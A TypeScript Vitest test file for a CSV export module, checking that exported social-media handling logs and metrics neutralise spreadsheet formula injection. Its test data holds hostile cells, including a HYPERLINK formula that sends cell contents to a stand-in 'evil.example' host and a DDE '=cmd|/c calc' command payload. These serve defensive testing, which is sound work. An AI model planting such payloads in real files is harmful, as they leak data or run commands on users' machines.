import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { HandledItem } from '../db/schema';
import { computeMetrics } from '../metrics/compute';
import { DEFAULT_FILTER } from '../metrics/filter';
import { generateSampleLog } from '../metrics/sample-log';
import { FAST_CSV_COLUMNS, ITEM_CSV_COLUMNS, itemCsvCellsBothWays, itemsToCsv, metricsToCsv, neutraliseCell } from './csv';

const base: HandledItem = {
  id: 'a1:x:1',
  schemaVersion: 1,
  site: 'x',
  postId: '1',
  permalink: 'https://x.com/c/status/1',
  authorHandle: 'c',
  authorName: 'C',
  handledAt: '2026-01-05T10:00:00.000Z',
  replyCount: 1,
  reason: 'replied',
  agentId: 'a1',
  agentName: 'Ana',
  mode: 'live',
  updatedAt: '2026-01-05T10:00:00.000Z',
};

/** The file's text, BOM kept (TextDecoder drops it unless told not to). */
const decode = async (file: Blob): Promise<string> => new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(await file.arrayBuffer());

const csvText = async (items: readonly HandledItem[]): Promise<string> => decode(await itemsToCsv(items));

function parse(text: string): string[][] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const r = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
  expect(r.errors).toEqual([]);
  return r.data;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line', // papaparse's own escapeFormulae regex misses this multi-line case
  'plain, with "quotes" and a comma',
  'line one\r\nline two',
  'émoji 🙂 and ünïcødé',
  ' =leading space is text',
];

describe('neutraliseCell', () => {
  it('prefixes a quote to cells that start like a formula, and nothing else', () => {
    for (const s of HOSTILE.slice(0, 7)) expect(neutraliseCell(s)).toBe(`'${s}`);
    for (const s of HOSTILE.slice(7)) expect(neutraliseCell(s)).toBe(s);
  });
});

describe('itemsToCsv', () => {
  it('writes a header with every log field and one row per item', async () => {
    const { items } = generateSampleLog(50, 5);
    const rows = parse(await csvText(items));
    expect(rows[0]).toEqual(ITEM_CSV_COLUMNS);
    expect(ITEM_CSV_COLUMNS).toContain('responseBusinessSeconds');
    expect(ITEM_CSV_COLUMNS).toContain('practiceSessionId');
    expect(rows).toHaveLength(51);
    const col = (name: string) => ITEM_CSV_COLUMNS.indexOf(name as keyof HandledItem);
    items.forEach((it, i) => {
      expect(rows[i + 1]![col('id')]).toBe(it.id);
      expect(rows[i + 1]![col('handledAt')]).toBe(it.handledAt);
      expect(rows[i + 1]![col('responseSeconds')]).toBe(it.responseSeconds === undefined ? '' : String(it.responseSeconds));
    });
  });

  it('writes each row field by field exactly as the by-name reference does, for every column of the schema', () => {
    // A new field in HandledItemSchema must be added to FAST_CSV_COLUMNS and fastCells (until
    // then exports take the slower reference path, still complete).
    expect([...FAST_CSV_COLUMNS]).toEqual(ITEM_CSV_COLUMNS);
    const { items } = generateSampleLog(300, 9);
    const odd: HandledItem[] = HOSTILE.map((s, i) => ({
      ...base,
      id: `a1:x:h${i}`,
      text: s,
      authorName: s,
      notes: s,
      tags: [s, 'b'],
      replyText: s,
      postedAt: '2026-01-05T09:00:00+01:00',
      responseSeconds: i % 2 ? Number.NaN : -5,
      targetMet: i % 2 === 0,
      flags: [{ name: 'legal', evidence: [s] }],
      correctedIntent: 'praise',
      language: s,
    }));
    for (const it of [...items, ...odd]) {
      const { fast, reference } = itemCsvCellsBothWays(it);
      expect(fast).toEqual(reference);
    }
  });

  it('neutralises hostile cells in every text field and keeps them intact otherwise', async () => {
    const items = HOSTILE.map((s, i): HandledItem => ({ ...base, id: `a1:x:${i}`, text: s, authorName: s, notes: s, tags: [s], replyText: s }));
    const rows = parse(await csvText(items));
    const col = (name: string) => ITEM_CSV_COLUMNS.indexOf(name as keyof HandledItem);
    HOSTILE.forEach((s, i) => {
      const row = rows[i + 1]!;
      const expected = /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
      for (const f of ['text', 'authorName', 'notes', 'replyText', 'tags']) expect(row[col(f)]).toBe(expected);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it('writes ISO times, durations in seconds, flags and booleans readably', async () => {
    const it: HandledItem = {
      ...base,
      postedAt: '2026-01-05T09:00:00+01:00',
      responseSeconds: 3600.5,
      targetMet: false,
      flags: [{ name: 'legal', evidence: ['lawyer', 'sue'] }, { name: 'churn', evidence: [] }],
    };
    const [header, row] = parse(await csvText([it]));
    const get = (name: string) => row![header!.indexOf(name)];
    expect(get('postedAt')).toBe('2026-01-05T08:00:00.000Z');
    expect(get('responseSeconds')).toBe('3600.5');
    expect(get('targetMet')).toBe('false');
    expect(get('flags')).toBe('legal (lawyer, sue); churn');
    expect(get('repliedAt')).toBe('');
  });

  it('reports progress per chunk and can leave out the BOM', async () => {
    const { items } = generateSampleLog(25, 1);
    const seen: number[] = [];
    const file = await itemsToCsv(items, { chunkSize: 10, bom: false, onProgress: (p) => seen.push(p.done) });
    expect(seen).toEqual([0, 10, 20, 25]);
    expect(file.type).toBe('text/csv;charset=utf-8');
    expect((await decode(file)).charCodeAt(0)).not.toBe(0xfeff);
    // Chunked output equals one-chunk output.
    expect(await decode(file)).toBe(await decode(await itemsToCsv(items, { bom: false })));
  });

  it('writes the bytes of the UTF-8 encoding of the reference rows, quoted as papaparse quotes them', async () => {
    const { items } = generateSampleLog(200, 3);
    const odd: HandledItem[] = [...HOSTILE, 'lone \ud83d surrogate', '\udc00 low first', 'pair at end \ud83d\ude42', '"', '""', ''].map((s, i) => ({
      ...base,
      id: `a1:x:o${i}`,
      text: s,
      notes: s,
      replyText: `${s}${s}`,
    }));
    const all = [...items, ...odd];
    const reference = Papa.unparse([ITEM_CSV_COLUMNS, ...all.map((it) => itemCsvCellsBothWays(it).reference)], { quotes: true, newline: '\r\n' });
    const expected = new TextEncoder().encode(`\uFEFF${reference}\r\n`);
    // Small buffers, so rows straddle buffer ends too.
    const file = await itemsToCsv(all, { chunkSize: 7, bufferBytes: 1000 });
    const bytes = new Uint8Array(await file.arrayBuffer());
    expect(bytes.length).toBe(expected.length);
    expect(Buffer.from(bytes).equals(Buffer.from(expected))).toBe(true);
  });

  it('stops when cancelled', async () => {
    const { items } = generateSampleLog(30, 1);
    const ctrl = new AbortController();
    const p = itemsToCsv(items, { chunkSize: 10, signal: ctrl.signal, onProgress: (pr) => pr.done === 10 && ctrl.abort() });
    await expect(p).rejects.toMatchObject({ name: 'AbortError' });
  });
});

describe('metricsToCsv', () => {
  it('writes the summary in long format, neutralising names', () => {
    const { items, seen } = generateSampleLog(200, 9);
    items[0] = { ...items[0]!, agentId: 'agent-evil', agentName: '=cmd|/c calc', templateId: '-danger', mode: 'live', handledAt: items[1]!.handledAt };
    const summary = computeMetrics(items, seen, { ...DEFAULT_FILTER, range: 'all' }, { timeZone: 'UTC' });
    const rows = parse(metricsToCsv(summary));
    expect(rows[0]).toEqual(['section', 'key', 'label', 'metric', 'value']);
    const find = (section: string, metric: string, key = 'all') => rows.find((r) => r[0] === section && r[1] === key && r[3] === metric)?.[4];
    expect(find('totals', 'items')).toBe(String(summary.totals.items));
    expect(find('first_response', 'first_response_median_seconds')).toBe(String(summary.firstResponse.median));
    expect(find('within_target', 'share')).toBe(String(summary.withinTarget.share));
    expect(rows.some((r) => r[0] === 'by_agent' && r[2] === "'=cmd|/c calc")).toBe(true);
    expect(rows.some((r) => r[0] === 'by_template' && r[1] === "'-danger")).toBe(true);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]/);
    expect(rows.filter((r) => r[0] === 'heatmap_posted')).toHaveLength(168);
  });
});
